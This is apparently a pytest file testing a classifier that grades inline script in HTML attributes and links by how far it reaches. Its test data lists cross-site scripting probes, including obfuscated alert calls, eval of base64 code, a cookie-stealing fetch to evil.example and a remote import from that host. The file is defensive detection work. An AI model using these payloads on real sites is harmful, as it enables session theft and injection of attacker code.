"""What script in attributes and links would do."""

from __future__ import annotations

import pytest

from vanguard.layers.markup.scripts import Reach, calls_its_page, does_nothing, reach


@pytest.mark.parametrize(
    "code",
    [
        "alert(1)",
        "prompt`1`",
        "confirm()",
        "(alert)(1)",
        "alert?.(1)",
        "alert.call(null,1)",
        "top['al'+'ert'](1)",
        "self[/al/.source+'ert'](1)",
        "[1].find(alert)",
        "a=alert,a(1)",
        "onerror=alert;throw 1",
        "eval(atob('YWxlcnQoMSk='))",
        "String.fromCharCode(97,98)",
        "[].constructor.constructor('x')()",
        "fetch('//evil.example/?'+document.cookie)",
        "import('//evil.example/x.js')",
        "\\u0061lert(1)",
        "with(document)write(cookie)",
        "MsgBox 1",
        "document/**/.cookie",
    ],
)
def test_what_only_tests_and_attacks_are_is_a_probe(code: str) -> None:
    assert reach(code) is Reach.PROBE


@pytest.mark.parametrize(
    "code",
    [
        "document.write(x)",
        "location=x",
        "el.innerHTML = y",
        "fetch('https://other.example/' + x)",
        "document.createElement('script')",
        "setTimeout('go()', 1)",
        "eval(code)",
        "window.open(address)",
    ],
)
def test_what_attacks_need_is_far(code: str) -> None:
    assert reach(code) is Reach.FAR


@pytest.mark.parametrize(
    "code",
    [
        "alert('Saved!')",
        "return confirm('Delete this entry?')",
        "location.href='/next'",
        "window.open('https://example.com/help')",
        "window.print()",
        "fetch('/api/items')",
    ],
)
def test_words_in_a_dialog_and_fixed_addresses_are_only_shown(code: str) -> None:
    assert reach(code) is Reach.SHOWN


@pytest.mark.parametrize("code", ["save()", "this.form.submit()", "toggle('menu'); return false;", "n++"])
def test_calls_of_the_page_reach_nowhere(code: str) -> None:
    assert reach(code) is Reach.NONE


@pytest.mark.parametrize("code", ["void(0)", "void 0;", "", ";", "history.back()", "//"])
def test_a_link_for_want_of_an_address_does_nothing(code: str) -> None:
    assert does_nothing(code)


@pytest.mark.parametrize("code", ["alert(1)", "void(alert(1))", "history.pushState(x)"])
def test_other_links_do_something(code: str) -> None:
    assert not does_nothing(code)


def test_a_link_may_call_one_function_of_its_page() -> None:
    assert calls_its_page("showMenu('main')")
    assert not calls_its_page("eval(name)")
    assert not calls_its_page("a();b()")
